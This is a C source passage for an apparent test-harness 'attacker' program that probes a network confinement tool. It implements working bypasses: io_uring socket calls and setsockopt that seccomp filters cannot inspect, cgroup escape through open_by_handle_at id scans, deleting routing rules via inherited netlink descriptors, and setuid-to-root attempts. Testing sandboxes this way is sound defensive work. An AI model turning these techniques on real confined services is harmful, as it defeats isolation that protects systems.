/* The smallest io_uring: one submission at a time, waited for. */
struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array;
	unsigned *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
	struct io_uring_params p;
	size_t sq_size, cq_size;
	uint8_t *sq, *cq;

	memset(&p, 0, sizeof(p));
	r->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return errno;
	sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
	sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd,
		  IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return errno;
	cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED,
			  r->fd, IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return errno;
	}
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
		       PROT_READ | PROT_WRITE, MAP_SHARED, r->fd,
		       IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		return errno;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits sqe and waits for its completion; returns its res (-errno). */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
	int res;

	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS,
		    NULL, 0) < 0)
		return -errno;
	head = *r->cq_head;
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

/*
 * Connects (TCP) or sends (UDP) to d entirely through the ring: the
 * socket from IORING_OP_SOCKET (Linux 5.19) or, where that is missing,
 * socket(2); then IORING_OP_CONNECT and IORING_OP_SEND, or IORING_OP_SENDMSG.
 */
static int ring_send(struct ring *r, struct dest *d)
{
	struct io_uring_sqe sqe;
	char msg[256];
	int n = message(msg, sizeof(msg), d->label), fd, res;

	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SOCKET;
	sqe.fd = d->ss.ss_family;
	sqe.off = (uint64_t)d->proto;
	fd = ring_run(r, &sqe);
	if (fd == -EINVAL || fd == -EOPNOTSUPP)
		fd = socket(d->ss.ss_family, d->proto, 0);
	if (fd < 0)
		return -fd;
	if (d->proto == SOCK_STREAM) {
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_CONNECT;
		sqe.fd = fd;
		sqe.addr = (uintptr_t)&d->ss;
		sqe.off = d->len;
		res = ring_run(r, &sqe);
		if (res == 0) {
			memset(&sqe, 0, sizeof(sqe));
			sqe.opcode = IORING_OP_SEND;
			sqe.fd = fd;
			sqe.addr = (uintptr_t)msg;
			sqe.len = (unsigned)n;
			res = ring_run(r, &sqe);
			res = res == n ? 0 : res;
		}
	} else {
		struct iovec iov = { msg, (size_t)n };
		struct msghdr mh = { .msg_name = &d->ss,
				     .msg_namelen = d->len,
				     .msg_iov = &iov,
				     .msg_iovlen = 1 };

		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_SENDMSG;
		sqe.fd = fd;
		sqe.addr = (uintptr_t)&mh;
		sqe.len = 1;
		res = ring_run(r, &sqe);
		res = res == n ? 0 : res;
	}
	close(fd);
	return res < 0 ? -res : 0;
}

static int attack_io_uring(int argc, char **argv)
{
	struct ring r;
	double t0 = now();
	int err = ring_setup(&r);

	report("io_uring_setup", err, t0);
	if (err)
		return 0;
	for (int i = 0; i < argc; i++) {
		struct dest d;
		char label[192];

		parse_dest(argv[i], &d);
		snprintf(label, sizeof(label), "io_uring:%s", argv[i]);
		snprintf(d.label, sizeof(d.label), "%s", label);
		t0 = now();
		report(label, ring_send(&r, &d), t0);
	}
	return 0;
}

/* --- exec, uid --- */

static void print_caps(const char *who)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "re");

	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "Cap", 3) == 0 ||
		    strncmp(line, "NoNewPrivs", 10) == 0 ||
		    strncmp(line, "Seccomp:", 8) == 0)
			printf("STATUS %s %s", who, line);
	if (f)
		fclose(f);
	fflush(stdout);
}

static int drop_to(uid_t uid)
{
	if (setgroups(0, NULL) < 0 || setgid(uid) < 0 || setuid(uid) < 0)
		return errno;
	return 0;
}

static int attack_exec(int argc, char **argv)
{
	if (argc < 1)
		usage();
	print_caps("before-exec");
	execv(argv[0], argv);
	report("execv", errno, now());
	return 0;
}

/* exec, after dropping to UID: for a set-user-ID program. */
static int attack_exec_as(int argc, char **argv)
{
	double t0 = now();
	int err;

	if (argc < 2)
		usage();
	err = drop_to((uid_t)atoi(argv[0]));
	report("setuid", err, t0);
	if (err)
		return 0;
	return attack_exec(argc - 1, argv + 1);
}

/* What a set-user-ID program got: its user IDs and capabilities. */
static int attack_ids(int argc, char **argv)
{
	printf("IDS uid=%d euid=%d\n", getuid(), geteuid());
	print_caps("ids");
	return 0;
}

/*
 * The daemon's usual shape: fork, drop to an unprivileged user, fork a
 * worker. The worker must be exactly as confined as the daemon was.
 */
static int attack_grandchild(int argc, char **argv)
{
	uid_t uid;
	pid_t child;
	int status = 0;

	if (argc < 2)
		usage();
	uid = (uid_t)atoi(argv[0]);
	child = fork();
	if (child == 0) {
		double t0 = now();
		int err = drop_to(uid);
		pid_t grand;

		report("setuid", err, t0);
		if (err)
			_exit(1);
		grand = fork();
		if (grand == 0) {
			printf("GRANDCHILD pid=%d uid=%d\n", getpid(),
			       getuid());
			print_caps("grandchild");
			print_cgroup();
			t0 = now();
			report("grandchild-setuid-0", err_of(setuid(0)), t0);
			for (int i = 1; i < argc; i++)
				try_send("grandchild:", argv[i]);
			_exit(0);
		}
		waitpid(grand, &status, 0);
		_exit(0);
	}
	waitpid(child, &status, 0);
	return 0;
}

/* --- file handles --- */

/* The kernfs handle type of cgroupfs: the handle is the cgroup's 64-bit id. */
#define FILEID_KERNFS 0xfe

/* The first cgroup2 mount in this process's mount table, as it sees it. */
static bool cgroup2_mount(char *path, size_t size)
{
	char line[1024];
	bool found = false;
	FILE *f = fopen("/proc/self/mountinfo", "re");

	while (f && !found && fgets(line, sizeof(line), f)) {
		char *sep = strstr(line, " - "), mnt[512];

		if (sep && strncmp(sep + 3, "cgroup2 ", 8) == 0 &&
		    sscanf(line, "%*s %*s %*s %*s %511s", mnt) == 1) {
			snprintf(path, size, "%s", mnt);
			found = true;
		}
	}
	if (f)
		fclose(f);
	return found;
}

static int open_handle(int mount_fd, uint64_t id, int flags)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + sizeof(uint64_t)];
	} h;

	h.fh.handle_bytes = sizeof(id);
	h.fh.handle_type = FILEID_KERNFS;
	memcpy(h.fh.f_handle, &id, sizeof(id));
	return open_by_handle_at(mount_fd, &h.fh, flags | O_CLOEXEC);
}

/* What name_to_handle_at(2) says of PATH: its handle type and cgroup id. */
static int attack_handle_of(int argc, char **argv)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	uint64_t id = 0;
	int mnt_id;

	if (argc != 1)
		usage();
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, argv[0], &h.fh, &mnt_id, 0) < 0) {
		report("name_to_handle_at", errno, now());
		return 0;
	}
	if (h.fh.handle_bytes == sizeof(id))
		memcpy(&id, h.fh.f_handle, sizeof(id));
	printf("HANDLE type=0x%x bytes=%u id=%llu\n", h.fh.handle_type,
	       h.fh.handle_bytes, (unsigned long long)id);
	fflush(stdout);
	return 0;
}

/*
 * With CAP_DAC_READ_SEARCH, open_by_handle_at(2) opens any cgroup of the
 * superblock by its id, whatever the mount's root: a way around the
 * cgroup2 mount that confine roots at the service's cgroup. Each NAME:ID
 * is opened; with :move the attacker then writes its PID into that
 * cgroup's cgroup.procs (only ever a cgroup of the test's own subtree).
 * scan:N tries every id from 1 to N and only opens. tcp:/udp: arguments
 * are sent to afterwards, from wherever the process ended up.
 */
static int attack_file_handle(int argc, char **argv)
{
	char mnt[512];
	double t0 = now();
	int mount_fd;

	if (!cgroup2_mount(mnt, sizeof(mnt))) {
		report("find-cgroup2-mount", ENOENT, t0);
		return 0;
	}
	printf("CGROUP2_MOUNT %s\n", mnt);
	print_cgroup();
	mount_fd = open(mnt, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mount_fd < 0) {
		report("open-cgroup2-mount", errno, t0);
		return 0;
	}
	for (int i = 0; i < argc; i++) {
		char name[64], label[160];
		unsigned long long id;
		int fd, n = 0;

		if (strncmp(argv[i], "tcp:", 4) == 0 ||
		    strncmp(argv[i], "udp:", 4) == 0) {
			try_send("after-handles:", argv[i]);
			continue;
		}
		if (sscanf(argv[i], "scan:%llu", &id) == 1) {
			int first_err = 0, opened = 0;

			t0 = now();
			for (uint64_t k = 1; k <= id && k <= 100000; k++) {
				fd = open_handle(mount_fd, k, O_RDONLY);
				if (fd >= 0) {
					opened++;
					close(fd);
				} else if (!first_err || first_err == ESTALE) {
					first_err = errno;
				}
			}
			printf("SCAN ids=1..%llu opened=%d\n", id, opened);
			snprintf(label, sizeof(label),
				 "open_by_handle_at-scan-1..%llu", id);
			report(label, opened ? 0 : first_err, t0);
			continue;
		}
		if (sscanf(argv[i], "%63[^:]:%llu%n", name, &id, &n) != 2)
			usage();
		t0 = now();
		fd = open_handle(mount_fd, id, O_RDONLY | O_DIRECTORY);
		snprintf(label, sizeof(label), "open_by_handle_at:%s", name);
		report(label, err_of(fd), t0);
		if (fd < 0)
			continue;
		if (strcmp(argv[i] + n, ":move") == 0) {
			char pid[32];
			int procs, err = 0, len;

			t0 = now();
			len = snprintf(pid, sizeof(pid), "%d\n", getpid());
			procs = openat(fd, "cgroup.procs",
				       O_WRONLY | O_CLOEXEC);
			if (procs < 0)
				err = errno;
			else if (write(procs, pid, len) != len)
				err = errno;
			if (procs >= 0)
				close(procs);
			snprintf(label, sizeof(label), "move-via-handle:%s",
				 name);
			report(label, err, t0);
		}
		close(fd);
	}
	close(mount_fd);
	print_cgroup();
	return 0;
}

/*
 * A path walk from a descriptor opened before confinement (a directory
 * or O_PATH descriptor of the host's /): opens PATH below it for writing;
 * with write-pid, writes the attacker's PID there.
 */
static int attack_openat(int argc, char **argv)
{
	char label[600], pid[32];
	double t0 = now();
	int fd, err = 0, len;

	if (argc < 2 || argc > 3)
		usage();
	fd = openat(atoi(argv[0]), argv[1], O_WRONLY | O_CLOEXEC);
	snprintf(label, sizeof(label), "openat-fd-%s:%s", argv[0], argv[1]);
	if (fd >= 0 && argc == 3 && strcmp(argv[2], "write-pid") == 0) {
		len = snprintf(pid, sizeof(pid), "%d\n", getpid());
		if (write(fd, pid, len) != len)
			err = errno;
	} else if (fd < 0) {
		err = errno;
	}
	report(label, err, t0);
	if (fd >= 0)
		close(fd);
	print_cgroup();
	return 0;
}

/* --- kernel tunables --- */

/* Opens each PATH for writing and closes it again: nothing is written. */
static int attack_open_wronly(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char label[600];
		double t0 = now();
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC);

		snprintf(label, sizeof(label), "open-wronly:%s", argv[i]);
		report(label, err_of(fd), t0);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* Writes VALUE to PATH: only ever a knob of the test's own namespace. */
static int attack_write(int argc, char **argv)
{
	char label[600];
	double t0 = now();
	int fd, err = 0;
	size_t len;

	if (argc != 2)
		usage();
	snprintf(label, sizeof(label), "write:%s", argv[0]);
	fd = open(argv[0], O_WRONLY | O_CLOEXEC);
	len = strlen(argv[1]);
	if (fd < 0)
		err = errno;
	else if (write(fd, argv[1], len) != (ssize_t)len)
		err = errno;
	if (fd >= 0)
		close(fd);
	report(label, err, t0);
	return 0;
}

/* --- user IDs --- */

/*
 * What a service started with User=/Group= runs as: its user and group
 * IDs (real, effective, saved), supplementary groups and capabilities;
 * then it tries to become root again and sends to each DEST.
 */
static int attack_creds(int argc, char **argv)
{
	uid_t ru, eu, su;
	gid_t rg, eg, sg, groups[64];
	int n = getgroups(64, groups);
	double t0;

	getresuid(&ru, &eu, &su);
	getresgid(&rg, &eg, &sg);
	printf("CREDS uid=%u,%u,%u gid=%u,%u,%u groups=", ru, eu, su, rg, eg,
	       sg);
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	print_caps("creds");
	t0 = now();
	report("setuid-0", err_of(setuid(0)), t0);
	t0 = now();
	report("setresuid-0", err_of(setresuid(0, 0, 0)), t0);
	t0 = now();
	report("setgid-0", err_of(setgid(0)), t0);
	t0 = now();
	report("setgroups-0", err_of(setgroups(1, (gid_t[]){ 0 })), t0);
	for (int i = 0; i < argc; i++)
		try_send("", argv[i]);
	return 0;
}

/* --- choosing the output interface --- */

/* io_uring's socket commands (Linux 6.7), newer than some uapi headers. */
#define ATTACKER_SOCKET_URING_OP_SETSOCKOPT 3

/*
 * setsockopt(2) through the ring: IORING_OP_URING_CMD with
 * SOCKET_URING_OP_SETSOCKOPT. The system call that does it is
 * io_uring_enter, whose arguments say nothing of the option.
 */
static int ring_setsockopt(struct ring *r, int fd, uint32_t level,
			   uint32_t optname, const void *val, uint32_t len)
{
	struct io_uring_sqe sqe;
	uint64_t optval = (uintptr_t)val;
	uint8_t *p = (uint8_t *)&sqe;

	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_URING_CMD;
	sqe.fd = fd;
	sqe.cmd_op = ATTACKER_SOCKET_URING_OP_SETSOCKOPT;
	/* level and optname share addr; optlen is at splice_fd_in, and
	 * optval at addr3 (include/uapi/linux/io_uring.h of 6.7). */
	memcpy(p + offsetof(struct io_uring_sqe, addr), &level, 4);
	memcpy(p + offsetof(struct io_uring_sqe, addr) + 4, &optname, 4);
	memcpy(p + offsetof(struct io_uring_sqe, splice_fd_in), &len, 4);
	memcpy(p + offsetof(struct io_uring_sqe, addr3), &optval, 8);
	return ring_run(r, &sqe);
}

/*
 * Sends one datagram to d with the output interface given per packet, in
 * an IP_PKTINFO (IPv4) or IPV6_PKTINFO (IPv6) control message.
 */
static int send_pktinfo(const struct dest *d, int ifindex)
{
	union {
		char buf[CMSG_SPACE(sizeof(struct in6_pktinfo))];
		struct cmsghdr align;
	} u;
	char msg[256];
	struct iovec iov = { msg, 0 };
	struct msghdr mh = { .msg_name = (void *)&d->ss,
			     .msg_namelen = d->len,
			     .msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = u.buf };
	struct cmsghdr *c = (struct cmsghdr *)u.buf;
	int fd = socket(d->ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0), err;

	if (fd < 0)
		return errno;
	iov.iov_len = (size_t)message(msg, sizeof(msg), d->label);
	memset(&u, 0, sizeof(u));
	if (d->ss.ss_family == AF_INET) {
		struct in_pktinfo pi = { .ipi_ifindex = ifindex };

		c->cmsg_level = IPPROTO_IP;
		c->cmsg_type = IP_PKTINFO;
		c->cmsg_len = CMSG_LEN(sizeof(pi));
		memcpy(CMSG_DATA(c), &pi, sizeof(pi));
		mh.msg_controllen = CMSG_SPACE(sizeof(pi));
	} else {
		struct in6_pktinfo pi = { .ipi6_ifindex = ifindex };

		c->cmsg_level = IPPROTO_IPV6;
		c->cmsg_type = IPV6_PKTINFO;
		c->cmsg_len = CMSG_LEN(sizeof(pi));
		memcpy(CMSG_DATA(c), &pi, sizeof(pi));
		mh.msg_controllen = CMSG_SPACE(sizeof(pi));
	}
	err = err_of(sendmsg(fd, &mh, 0));
	close(fd);
	return err;
}

/*
 * Binds fd to the IPv6 link-local address of ifindex, with its scope id:
 * the kernel then binds the socket to that interface as SO_BINDTODEVICE
 * would, through bind(2), whose address a seccomp filter cannot read.
 */
static int bind_link_local(int fd, int ifindex)
{
	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6,
				     .sin6_scope_id = (uint32_t)ifindex };
	struct ifaddrs *ifa, *a;
	char name[IF_NAMESIZE];
	int err = EADDRNOTAVAIL;

	if (!if_indextoname((unsigned)ifindex, name) || getifaddrs(&ifa) < 0)
		return errno;
	for (a = ifa; a && err == EADDRNOTAVAIL; a = a->ifa_next) {
		const struct sockaddr_in6 *x = (void *)a->ifa_addr;

		if (!x || x->sin6_family != AF_INET6 ||
		    strcmp(a->ifa_name, name) != 0 ||
		    !IN6_IS_ADDR_LINKLOCAL(&x->sin6_addr))
			continue;
		sin6.sin6_addr = x->sin6_addr;
		err = err_of(bind(fd, (struct sockaddr *)&sin6, sizeof(sin6)));
	}
	freeifaddrs(ifa);
	return err;
}

/*
 * The ways a socket chooses its output interface itself, rather than
 * taking the one its routing table gives. Each METHOD is applied to a
 * fresh socket for each DEST ("set-METHOD:DEST"), which is then sent to
 * whatever the outcome ("after-METHOD:DEST"):
 *   SO_BINDTODEVICE SO_BINDTOIFINDEX IP_UNICAST_IF IPV6_UNICAST_IF
 *   IP_MULTICAST_IF IPV6_MULTICAST_IF IPV6_PKTINFO (sticky): setsockopt
 *   io_uring-SO_BINDTODEVICE: the same option set through io_uring
 *   bind-link-local: bind to IFNAME's IPv6 link-local address (IPv6)
 * and per packet:
 *   PKTINFO-cmsg: sendmsg with IP(V6)_PKTINFO ("sendmsg-PKTINFO-cmsg:DEST")
 */
static int attack_bind_device(int argc, char **argv)
{
	const char *method, *ifname;
	struct ring r;
	bool have_ring = false;
	int ifindex;

	if (argc < 3)
		usage();
	method = argv[0];
	ifname = argv[1];
	ifindex = (int)if_nametoindex(ifname);
	if (!ifindex) {
		report("if_nametoindex", errno, now());
		return 0;
	}
	if (strcmp(method, "io_uring-SO_BINDTODEVICE") == 0) {
		double t0 = now();
		int err = ring_setup(&r);

		report("io_uring_setup", err, t0);
		if (err)
			return 0;
		have_ring = true;
	}
	for (int i = 2; i < argc; i++) {
		struct dest d;
		char label[256];
		double t0 = now();
		int fd, err = 0;

		parse_dest(argv[i], &d);
		if (strcmp(method, "PKTINFO-cmsg") == 0) {
			snprintf(label, sizeof(label), "sendmsg-%s:%s", method,
				 argv[i]);
			snprintf(d.label, sizeof(d.label), "%s", label);
			report(label, send_pktinfo(&d, ifindex), t0);
			continue;
		}
		fd = socket(d.ss.ss_family, d.proto | SOCK_CLOEXEC, 0);
		if (fd < 0)
			return 1;
		if (strcmp(method, "SO_BINDTODEVICE") == 0) {
			err = err_of(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE,
						ifname, strlen(ifname) + 1));
		} else if (strcmp(method, "SO_BINDTOIFINDEX") == 0) {
			err = err_of(setsockopt(fd, SOL_SOCKET,
						SO_BINDTOIFINDEX, &ifindex,
						sizeof(ifindex)));
		} else if (strcmp(method, "IP_UNICAST_IF") == 0) {
			/* IPv4 takes the index in network byte order. */
			uint32_t idx = htonl((uint32_t)ifindex);

			err = err_of(setsockopt(fd, IPPROTO_IP, IP_UNICAST_IF,
						&idx, sizeof(idx)));
		} else if (strcmp(method, "IPV6_UNICAST_IF") == 0) {
			/* So does IPv6 (net/ipv6/ipv6_sockglue.c). */
			uint32_t idx = htonl((uint32_t)ifindex);

			err = err_of(setsockopt(fd, IPPROTO_IPV6,
						IPV6_UNICAST_IF, &idx,
						sizeof(idx)));
		} else if (strcmp(method, "IP_MULTICAST_IF") == 0) {
			struct ip_mreqn mr = { .imr_ifindex = ifindex };

			err = err_of(setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF,
						&mr, sizeof(mr)));
		} else if (strcmp(method, "IPV6_MULTICAST_IF") == 0) {
			err = err_of(setsockopt(fd, IPPROTO_IPV6,
						IPV6_MULTICAST_IF, &ifindex,
						sizeof(ifindex)));
		} else if (strcmp(method, "IPV6_PKTINFO") == 0) {
			struct in6_pktinfo pi = { .ipi6_ifindex = ifindex };

			err = err_of(setsockopt(fd, IPPROTO_IPV6, IPV6_PKTINFO,
						&pi, sizeof(pi)));
		} else if (strcmp(method, "bind-link-local") == 0) {
			err = bind_link_local(fd, ifindex);
		} else if (have_ring) {
			err = -ring_setsockopt(&r, fd, SOL_SOCKET,
					       SO_BINDTODEVICE, ifname,
					       (uint32_t)strlen(ifname) + 1);
		} else {
			usage();
		}
		snprintf(label, sizeof(label), "set-%s:%s", method, argv[i]);
		report(label, err, t0);
		/* Bound or not, the destination is tried on this socket. */
		snprintf(label, sizeof(label), "after-%s:%s", method, argv[i]);
		snprintf(d.label, sizeof(d.label), "%s", label);
		t0 = now();
		report(label, send_on(fd, &d), t0);
		close(fd);
	}
	return 0;
}

/* --- inherited descriptors --- */

/*
 * Opens a descriptor of KIND as descriptor FD (without FD_CLOEXEC) and
 * executes PROGRAM, as a service manager or a careless parent would:
 *   udp:HOST:PORT tcp:HOST:PORT	a connected socket
 *   tcp-listen:HOST:PORT		a listening TCP socket
 *   netlink-route			a NETLINK_ROUTE socket
 *   dir:PATH opath:PATH		a directory, an O_PATH descriptor
 * With --netns NSFILE, sockets are made in that network namespace and the
 * program still starts in the caller's.
 */
static int attack_with_fd(int argc, char **argv)
{
	const char *kind;
	int fd = -1, target, home = -1, on = 1;

	if (argc >= 2 && strcmp(argv[0], "--netns") == 0) {
		int ns = open(argv[1], O_RDONLY | O_CLOEXEC);

		home = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
		if (ns < 0 || home < 0 || setns(ns, CLONE_NEWNET) < 0) {
			perror("attacker: with-fd: --netns");
			return 1;
		}
		close(ns);
		argc -= 2;
		argv += 2;
	}
	if (argc < 3)
		usage();
	kind = argv[0];
	target = atoi(argv[1]);
	if (strncmp(kind, "dir:", 4) == 0) {
		fd = open(kind + 4, O_RDONLY | O_DIRECTORY);
	} else if (strncmp(kind, "opath:", 6) == 0) {
		fd = open(kind + 6, O_PATH);
	} else if (strcmp(kind, "netlink-route") == 0) {
		fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	} else if (strncmp(kind, "tcp-listen:", 11) == 0) {
		struct dest d;
		char spec[160];

		snprintf(spec, sizeof(spec), "tcp:%s", kind + 11);
		parse_dest(spec, &d);
		fd = socket(d.ss.ss_family, SOCK_STREAM, 0);
		if (fd >= 0 && (setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on,
					   sizeof(on)) < 0 ||
				bind(fd, (struct sockaddr *)&d.ss, d.len) < 0 ||
				listen(fd, 8) < 0)) {
			close(fd);
			fd = -1;
		}
	} else {
		struct dest d;

		parse_dest(kind, &d);
		fd = socket(d.ss.ss_family, d.proto, 0);
		if (fd >= 0 &&
		    connect(fd, (struct sockaddr *)&d.ss, d.len) < 0) {
			close(fd);
			fd = -1;
		}
	}
	if (fd < 0) {
		fprintf(stderr, "attacker: with-fd: cannot open %s: %s\n", kind,
			strerror(errno));
		return 1;
	}
	if (home >= 0 && setns(home, CLONE_NEWNET) < 0) {
		perror("attacker: with-fd: back to the caller's netns");
		return 1;
	}
	if (fd != target) {
		if (dup2(fd, target) < 0) {
			perror("attacker: with-fd: dup2");
			return 1;
		}
		close(fd);
	}
	fcntl(target, F_SETFD, 0);
	execvp(argv[2], argv + 2);
	fprintf(stderr, "attacker: with-fd: cannot execute %s: %s\n", argv[2],
		strerror(errno));
	return 1;
}

/*
 * Uses an inherited descriptor FD: a datagram or a message through a
 * connected socket; through a netlink socket, the delete of confine's
 * IPv4 rule (MARK MASK TABLE); on a listening socket, one accepted
 * connection (waited for up to 10 s after printing LISTENING), or with
 * DEST, the end of the listening by connect(2) to AF_UNSPEC and a connect
 * of the same socket to DEST.
 */
static int attack_send_fd(int argc, char **argv)
{
	int fd, domain = 0, listening = 0, err;
	socklen_t len = sizeof(int);
	char label[64], msg[256];
	double t0 = now();

	if (argc < 1)
		usage();
	fd = atoi(argv[0]);
	getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len);
	len = sizeof(int);
	getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &len);
	if (domain == AF_NETLINK) {
		char buf[1024];
		size_t n;

		if (argc != 4)
			usage();
		n = put_delrule(buf, AF_INET, strtoul(argv[1], NULL, 0),
				strtoul(argv[2], NULL, 0),
				strtoul(argv[3], NULL, 0));
		snprintf(label, sizeof(label), "netlink-fd-%d-delete-rule", fd);
		report(label, nl_talk_fd(fd, buf, n, 1), t0);
		return 0;
	}
	if (listening && argc == 2) {
		struct sockaddr unspec = { .sa_family = AF_UNSPEC };
		char rlabel[192];
		struct dest d;

		parse_dest(argv[1], &d);
		snprintf(rlabel, sizeof(rlabel), "listening-fd-%d-reconnect:%s",
			 fd, argv[1]);
		snprintf(d.label, sizeof(d.label), "%s", rlabel);
		if (connect(fd, &unspec, sizeof(unspec)) < 0)
			err = errno;
		else
			err = send_on(fd, &d);
		report(rlabel, err, t0);
		return 0;
	}
	if (listening) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int c;

		printf("LISTENING fd %d\n", fd);
		fflush(stdout);
		snprintf(label, sizeof(label), "accept-fd-%d", fd);
		if (poll(&p, 1, 10000) <= 0) {
			report(label, ETIMEDOUT, t0);
			return 0;
		}
		c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
		if (c < 0) {
			report(label, errno, t0);
			return 0;
		}
		/* The peer's message, then an answer to the peer. */
		p.fd = c;
		if (poll(&p, 1, 3000) > 0 && read(c, msg, sizeof(msg)) >= 0) {
			int n = message(msg, sizeof(msg), label);

			err = write(c, msg, n) == n ? 0 : errno;
		} else {
			err = ETIMEDOUT;
		}
		report(label, err, t0);
		close(c);
		return 0;
	}
	snprintf(label, sizeof(label), "send-fd-%d", fd);
	{
		int n = message(msg, sizeof(msg), label);

		err = write(fd, msg, n) == n ? 0 : errno;
	}
	report(label, err, t0);
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*fn)(int, char **);
	} attacks[] = {
		{ "send", attack_send },
		{ "cgroup-escape", attack_cgroup_escape },
		{ "nft-delete", attack_nft_delete },
		{ "rtnl", attack_rtnl },
		{ "so-mark", attack_so_mark },
		{ "tcp-repair", attack_tcp_repair },
		{ "af-packet", attack_af_packet },
		{ "raw-ip", attack_raw_ip },
		{ "unshare", attack_unshare },
		{ "setns", attack_setns },
		{ "ptrace", attack_ptrace },
		{ "bpf", attack_bpf },
		{ "io-uring", attack_io_uring },
		{ "exec", attack_exec },
		{ "exec-as", attack_exec_as },
		{ "ids", attack_ids },
		{ "grandchild", attack_grandchild },
		{ "handle-of", attack_handle_of },
		{ "file-handle", attack_file_handle },
		{ "openat", attack_openat },
		{ "open-wronly", attack_open_wronly },
		{ "write", attack_write },
		{ "creds", attack_creds },
		{ "bind-device", attack_bind_device },
		{ "with-fd", attack_with_fd },
		{ "send-fd", attack_send_fd },
	};

	if (argc > 2 && strcmp(argv[1], "--token") == 0) {
		token = argv[2];
		argc -= 2;
		argv += 2;
	}
	if (argc < 2)
		usage();
	/* A stuck try must not hold the test up. */
	alarm(60);
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(argv[1], attacks[i].name) == 0)
			return attacks[i].fn(argc - 2, argv + 2);
	usage();
	return 2;
}
